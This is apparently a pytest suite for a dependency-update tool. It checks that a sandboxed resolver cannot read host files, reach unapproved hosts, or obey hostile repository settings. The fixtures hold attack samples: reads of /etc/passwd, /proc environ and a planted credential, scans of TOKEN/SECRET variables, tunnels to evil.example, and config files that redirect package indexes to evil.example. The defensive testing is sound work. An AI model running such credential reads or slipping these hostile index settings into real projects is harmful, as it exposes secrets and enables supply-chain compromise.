"""Repositories that attack the resolver: nothing of theirs runs, nothing outside is read, and nothing leaves."""

import os
import shlex
import sys
import threading
from pathlib import Path

import pytest

from muniment.programs.catalogue import Program
from muniment.updates.lock_updates import LockUpdate, UpdateRefusal
from muniment.updates.registry_proxy import RegistryAnswer
from muniment.updates.resolver_child import ResolverFolder, ResolverTool
from tests.support.advisory_exports import fixed_in, read_advisory
from tests.support.registries import EARLY, FakePythonIndex, SeveralRegistries
from tests.support.resolvers import make_uv_lock
from tests.updates.test_uv_updates import index, lock_early, moves, update, write_project

__all__ = ["index"]
ADVISORY = read_advisory("A-1", "sqlparse", events=fixed_in("0.3.1"))


class NoRegistry:
    """Registry with one host, that answers with nothing."""

    allowed_hosts = frozenset({"pypi.org"})

    def __init__(self) -> None:
        self.requests: list[str] = []

    def answer_request(self, host: str, path: str, _accept: str) -> RegistryAnswer:
        self.requests.append(f"{host}{path}")
        return RegistryAnswer(200, body=b"answer")


def run_in_child(folder: ResolverFolder, code: str) -> str:
    """Run Python in the child as if it were the resolver, by a script of the folder; its output."""
    folder.write_files({"attack.py": code.encode(), "uv.lock": b""})
    done = folder.run_tool(("lock", ("--python", "attack")), {})
    return done.out.decode() + done.err.decode()


@pytest.fixture
def attacker(tmp_path: Path) -> ResolverTool:
    """Tool that runs the file attack.py of the project, in place of uv."""
    tool = tmp_path / "uv"
    tool.write_text(f"#!/bin/sh\nexec {shlex.quote(str(Path(sys.base_prefix, 'bin', 'python3')))} attack.py\n")
    tool.chmod(0o755)
    return ResolverTool(Program.UV, tool, (str(tmp_path), sys.base_prefix))


def test_the_child_reads_no_file_of_the_machine_and_keeps_no_privilege(attacker: ResolverTool, tmp_path: Path) -> None:
    secret = tmp_path.parent / "secret"
    secret.write_text("credential")
    code = f"""
import os
def attempt(what, *arguments):
    try:
        print(what.__name__, "worked", what(*arguments))
    except OSError as error:
        print(what.__name__, "refused", error.errno)
def read(path): return open(path).read()
def write(path): return open(path, "w").write("x")
attempt(read, {str(secret)!r})
attempt(read, "/etc/passwd")
attempt(read, "/proc/{os.getpid()}/environ")
attempt(os.listdir, "/root")
attempt(os.listdir, "/tmp")
attempt(write, "/tmp/written-by-the-child")
attempt(os.kill, {os.getpid()}, 0)
print("uid", os.getuid() != 0)
print(sorted(name for name in os.environ if "TOKEN" in name or "SECRET" in name))
"""
    with ResolverFolder(attacker, NoRegistry()) as folder:
        out = run_in_child(folder, code)
    assert "read worked" not in out
    assert "write worked" not in out
    assert "listdir worked" not in out
    assert out.count("refused") >= 6
    assert "[]" in out
    assert not Path("/tmp/written-by-the-child").exists()


def test_the_child_reaches_the_proxy_and_no_other_address(attacker: ResolverTool) -> None:
    import socket

    with socket.create_server(("127.0.0.1", 0)) as listener:
        code = f"""
import socket, ssl, os
def attempt(name, what):
    try:
        what(); print(name, "worked")
    except OSError:
        print(name, "refused")
attempt("machine", lambda: socket.create_connection(("127.0.0.1", {listener.getsockname()[1]}), 2))
attempt("internet", lambda: socket.create_connection(("192.0.2.1", 80), 2))
attempt("unix", lambda: socket.socket(socket.AF_UNIX))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
def tunnel(target, path):
    plain = socket.create_connection(("127.0.0.1", 3128), 5)
    plain.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    print(target, plain.recv(100).split()[1].decode())
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    secure = context.wrap_socket(plain, server_hostname=target.split(":")[0])
    headers = "Host: x\\r\\nAuthorization: Basic c2VjcmV0\\r\\nConnection: close"
    secure.sendall(f"GET {{path}} HTTP/1.1\\r\\n{{headers}}\\r\\n\\r\\n".encode())
    print(path, secure.recv(100).split()[1].decode())
own = "pypi.org:443"
for target, path in (
    (own, "/simple/a/"), (own, "/simple/a/?secret=1"), (own, "/simple/../x"), ("evil.example:443", "/"),
    ("pypi.org:22", "/")
):
    try:
        tunnel(target, path)
    except OSError:
        print(target, path, "ended")
"""
        registry = NoRegistry()
        with ResolverFolder(attacker, registry) as folder:
            out = run_in_child(folder, code)
            refused = folder.proxy.refused
    assert "machine refused" in out
    assert "internet refused" in out
    assert "unix refused" in out
    assert "netlink refused" in out
    assert "/simple/a/ 200" in out
    assert "/simple/a/?secret=1 403" in out
    assert "evil.example:443 403" in out
    assert "pypi.org:22 403" in out
    assert registry.requests == ["pypi.org/simple/a/"]
    assert len(refused) == 4


def test_what_the_child_wrote_is_read_through_no_link(attacker: ResolverTool, tmp_path: Path) -> None:
    secret = tmp_path.parent / "secret"
    secret.write_text("credential")
    code = f"""
import os
os.symlink({str(secret)!r}, "link.lock")
os.symlink({str(secret.parent)!r}, "folder")
os.mkfifo("pipe.lock")
open("plain.lock", "w").write("fine")
"""
    with ResolverFolder(attacker, NoRegistry()) as folder:
        run_in_child(folder, code)
        assert folder.read_file("plain.lock") == b"fine"
        for path in ("link.lock", "folder/secret", "pipe.lock", "missing.lock", ".."):
            assert folder.read_file(path) is None, path


def test_the_folder_is_gone_and_no_thread_is_left(attacker: ResolverTool) -> None:
    before = threading.active_count()
    with ResolverFolder(attacker, NoRegistry()) as folder:
        run_in_child(folder, "print(1)")
        path = folder.folder_path
    assert not Path(path).exists()
    assert threading.active_count() <= before + 1


def test_a_machine_that_cannot_confine_gives_an_error(attacker: ResolverTool, monkeypatch: pytest.MonkeyPatch) -> None:
    from muniment.errors import ProgramError
    from muniment.programs import command

    def break_launcher(done: command.Command, *_: object) -> command.Command:
        return command.Command(done.program, done.name, ("/bin/sh", "-c", "exit 97"))

    monkeypatch.setattr("muniment.updates.resolver_child.confine_resolver", break_launcher)
    with ResolverFolder(attacker, NoRegistry()) as folder, pytest.raises(ProgramError, match="cannot confine"):
        folder.run_tool(("lock",), {})


HOSTILE = {
    "uv.toml": b'[[index]]\nurl = "https://evil.example/simple"\ndefault = true\n',
    "pip.conf": b"[global]\nindex-url = https://evil.example/simple\n",
    ".netrc": b"machine pypi.org login a password b\n",
    ".python-version": b"/tmp/evil-python\n",
    ".env": b"UV_INDEX_URL=https://evil.example/simple\n",
    "setup.py": b"open('/tmp/setup-py-ran', 'w')\n",
    ".venv/bin/python": b"#!/bin/sh\ntouch /tmp/venv-python-ran\n",
    ".venv/pyvenv.cfg": b"home = /tmp\nversion = 3.11\n",
}


def test_settings_and_scripts_of_the_repository_have_no_effect(index: FakePythonIndex) -> None:
    files = write_project("django")
    before = lock_early(index, files)
    hostile = (
        b'[tool.uv]\nfind-links = ["https://evil.example/"]\nkeyring-provider = "subprocess"\n'
        b'cache-dir = "/tmp/evil"\nno-build = false\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\n'
        b'default = true\n[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    )
    virtual = files["pyproject.toml"].replace(b"\n[project]", b"[project]")
    files = {**HOSTILE, "pyproject.toml": virtual + hostile}
    result = update(index, files, before.replace(b"virtual", b"editable"), ADVISORY)
    assert moves(result) == {"sqlparse": (("0.3.0",), ("0.3.1",))}
    assert {request.split("/")[0] for request in index.requests} == {"pypi.org", "files.pythonhosted.org"}
    assert not any("evil" in request for request in index.requests)
    assert not Path("/tmp/venv-python-ran").exists()
    assert not Path("/tmp/setup-py-ran").exists()


@pytest.mark.parametrize(
    "source",
    ['{ path = "../../../etc" }', '{ git = "https://evil.example/x" }', '{ url = "https://evil.example/x.whl" }'],
)
def test_a_source_outside_the_repository_is_not_reached(index: FakePythonIndex, source: str) -> None:
    files = write_project("django")
    before = lock_early(index, files)
    changed = files["pyproject.toml"] + f"[tool.uv.sources]\ndjango = {source}\n".encode()
    result = update(index, {"pyproject.toml": changed}, before, ADVISORY)
    assert isinstance(result, UpdateRefusal)
    assert not any("evil" in request for request in index.requests)


def test_a_name_of_a_private_index_is_looked_up_nowhere_else(index: FakePythonIndex) -> None:
    index.publish("secret-lib", "9.9", uploaded=EARLY)  # on the public index, by somebody else
    private = FakePythonIndex(host="pkgs.example.com", files="pkgs.example.com", prefix="/simple")
    private.publish("secret-lib", "1.0", "sqlparse", uploaded=EARLY)
    private.publish("secret-lib", "1.1", "sqlparse")
    both = SeveralRegistries({"pypi.org": index, "files.pythonhosted.org": index, "pkgs.example.com": private})
    project = write_project("secret-lib")["pyproject.toml"] + (
        b'[tool.uv.sources]\nsecret-lib = { index = "own" }\n'
        b'[[tool.uv.index]]\nname = "own"\nurl = "https://user:password@pkgs.example.com/simple"\nexplicit = true\n'
    )
    files = {"pyproject.toml": project.replace(b"user:password@", b"")}
    index.until = private.until = EARLY
    before = make_uv_lock(both, files, hosts=("pypi.org", "pkgs.example.com"))
    index.until = private.until = ""
    index.requests.clear()
    result = update(both, files, before, read_advisory("A-1", "secret-lib", events=fixed_in("1.1")))
    assert moves(result) == {"secret-lib": (("1.0",), ("1.1",))}
    assert isinstance(result, LockUpdate)
    assert b'{ registry = "https://pkgs.example.com/simple" }' in result.content
    assert not any("secret-lib" in request for request in index.requests)
